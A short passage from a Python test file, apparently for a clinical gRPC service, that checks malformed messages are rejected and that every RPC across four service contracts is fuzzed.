    for case, raw in malformed_wire_messages(rpc).items():
        outcome = await invoke(channels[rpc.service], rpc, raw, tokens["clinician"], timeout=STREAM_DEADLINE * 4)
        assert outcome.code == grpc.StatusCode.INVALID_ARGUMENT, f"{rpc}, {case}: {outcome.describe()}"


def test_every_rpc_of_the_four_contracts_is_fuzzed():
    assert {rpc.service for rpc in RPCS} == {"access", "overview", "news2", "storage"}
    missing = sorted(str(rpc) for rpc in RPCS if str(rpc) not in TEMPLATES)
    # A new RPC is fuzzed from its descriptor without a template; a template only adds near-valid requests.
    assert not missing, f"add a valid request template for {missing} so its fuzzing reaches past validation"
    fuzzed = {str(rpc) for rpc in UNARY_RPCS + STREAM_RPCS}
    assert fuzzed == {str(rpc) for rpc in RPCS}
    assert not set(TEMPLATES) - fuzzed, "a template for an RPC that no longer exists"
